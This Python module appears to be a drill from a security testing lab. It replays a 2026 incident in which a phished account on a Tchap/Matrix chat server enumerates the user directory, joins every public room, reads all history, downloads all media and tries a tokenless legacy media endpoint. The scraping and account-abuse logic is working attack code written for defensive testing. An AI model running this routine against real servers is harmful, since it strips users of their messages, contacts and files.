"""The incident of June 2026: one phished account enumerates the people, enters every public room and takes it all.

The thief knows the password, so a challenge or a refusal is answered by a new login from another network, until the
account lets nobody in any more.
"""

import asyncio
from dataclasses import dataclass, field
from string import ascii_lowercase
from typing import Final

from vigie.lab.client import Answer, Client, Source
from vigie.lab.drills import Context
from vigie.lab.intruder import BROWSER, NETWORKS, Expelled, Intruder, Request, crew
from vigie.lab.loot import Taken
from vigie.model.language import Sentence

PREFIXES: Final = tuple(a + b for a in ascii_lowercase for b in ascii_lowercase)
PASSES: Final = 3
"""How often a room that refused something is tried."""
A_GLANCE: Final = 100
"""Events read of each room when only its files are wanted."""
HOPELESS: Final = 20
"""Refusals without one success before the old media address is given up."""


class Tchap2026:
    """See the module."""

    name: Final = "tchap-2026"
    title: Final = Sentence(
        en="The June 2026 incident: a stolen account lists people, enters every public room, reads and downloads all",
        fr="L'incident de juin 2026 : un compte volé liste les agents, entre dans les salons, lit et aspire tout",
    )
    benign: Final = False
    profile: Final = "victim"
    stages: Final = ("directory", "rooms", "members", "history", "media", "legacy")
    seconds: Final = 300.0

    async def run(self, context: Context) -> Taken:
        """Play it: see `Drill.run`."""
        theft = _Theft(context)
        try:
            async with asyncio.timeout(context.seconds):
                await theft.play()
        except TimeoutError:
            context.loot.stop = "time"
        except Expelled:
            pass
        if "legacy" in context.stages:
            await theft.try_without_token()
        context.loot.contained = await theft.intruder.verify_contained()
        context.loot.stop = context.loot.stop or "everything taken"
        return context.loot.taken()


@dataclass
class _Room:
    """How far one room was taken."""

    id: str
    entered: bool = False
    listed: bool = False
    read: bool = False
    place: str = ""
    files: list[str] = field(default_factory=list)


class _Theft:
    def __init__(self, context: Context) -> None:
        self._context = context
        self._loot = context.loot
        self.intruder = Intruder(
            context.http, context.base_url, context.account, context.loot, requests=context.requests
        )
        self._rooms: dict[str, _Room] = {}

    async def play(self) -> None:
        await self.intruder.enter()
        if self._wants("directory"):
            await crew(self._context.concurrency, PREFIXES, self._sweep)
        if self._context.stages not in (("directory",), ("legacy",), ("directory", "legacy")):
            await self._list_rooms()
            for _ in range(PASSES):
                left = [room for room in self._rooms.values() if not self._finished(room)]
                await crew(self._context.concurrency, left, self._take_room)

    def _wants(self, stage: str) -> bool:
        return stage in self._context.stages

    async def _sweep(self, prefix: str) -> None:
        answer = await self.intruder.ask("directory", lambda client: client.search_people(prefix))
        if answer:
            self._loot.take_people(row.get("user_id") for row in answer.rows("results"))

    async def _list_rooms(self) -> None:
        since = ""
        while True:
            answer = await self.intruder.ask("rooms", _page_of_rooms(since))
            for row in answer.rows("chunk") if answer else ():
                name = row.get("room_id")
                if isinstance(name, str):
                    self._rooms.setdefault(name, _Room(name))
            since = answer.text("next_batch") if answer else ""
            if not since:
                return

    def _finished(self, room: _Room) -> bool:
        wanted = (room.entered, room.listed or not self._wants("members"), room.read, not room.files)
        return all(wanted)

    async def _take_room(self, room: _Room) -> None:
        if not room.entered and not await self._join(room):
            return
        if self._wants("members") and not room.listed:
            await self._list_members(room)
        if not room.read:
            await self._read_history(room)
        if self._wants("media"):
            await self._download(room)

    async def _join(self, room: _Room) -> bool:
        answer = await self.intruder.ask("join", lambda client: client.join(room.id))
        if answer:
            room.entered = True
            self._loot.enter(room.id)
        return room.entered

    async def _list_members(self, room: _Room) -> None:
        answer = await self.intruder.ask("members", lambda client: client.members(room.id))
        if answer:
            room.listed = True
            self._loot.take_people(row.get("state_key") for row in answer.rows("chunk"))

    async def _read_history(self, room: _Room) -> None:
        if not self._wants("history"):
            await self._glance(room)
            return
        while not room.read:
            answer = await self.intruder.ask("history", _page_of_history(room.id, room.place))
            if answer is None:
                return
            self._keep(room, answer)
            room.place = answer.text("end")
            room.read = not room.place

    async def _glance(self, room: _Room) -> None:
        if self._wants("media"):
            answer = await self.intruder.ask("history", lambda client: client.messages(room.id, limit=A_GLANCE))
            if answer is None:
                return
            self._keep(room, answer)
        room.read = True

    def _keep(self, room: _Room, answer: Answer) -> None:
        files = self._loot.take_events(room.id, answer.rows("chunk"))
        if self._wants("media"):
            room.files += files

    async def _download(self, room: _Room) -> None:
        for mxc in list(room.files):
            answer = await self.intruder.ask("media", _file(mxc))
            if answer:
                self._loot.take_media(mxc, answer.size)
                room.files.remove(mxc)

    async def try_without_token(self) -> None:
        """Fetch what is missing, and a few files as a test, by the old address that asks for no token."""
        client = Client(self._context.http, self._context.base_url, Source(NETWORKS[-1], BROWSER))
        missing = [mxc for room in self._rooms.values() for mxc in room.files]
        taken, refused = 0, 0
        for mxc in [*missing, *list(self._loot.media)[:HOPELESS]]:
            answer = await client.download_legacy(mxc)
            self._loot.requests += 1
            if answer.ok:
                taken += 1
                self._loot.take_media(mxc, answer.size)
            refused += not answer.ok
            if refused >= HOPELESS and not taken:
                break
        self._loot.done["media_without_token"] = taken


def _page_of_rooms(since: str) -> Request:
    return lambda client: client.public_rooms(since)


def _page_of_history(room: str, place: str) -> Request:
    return lambda client: client.messages(room, place)


def _file(mxc: str) -> Request:
    return lambda client: client.download(mxc)


DRILL: Final = Tchap2026()
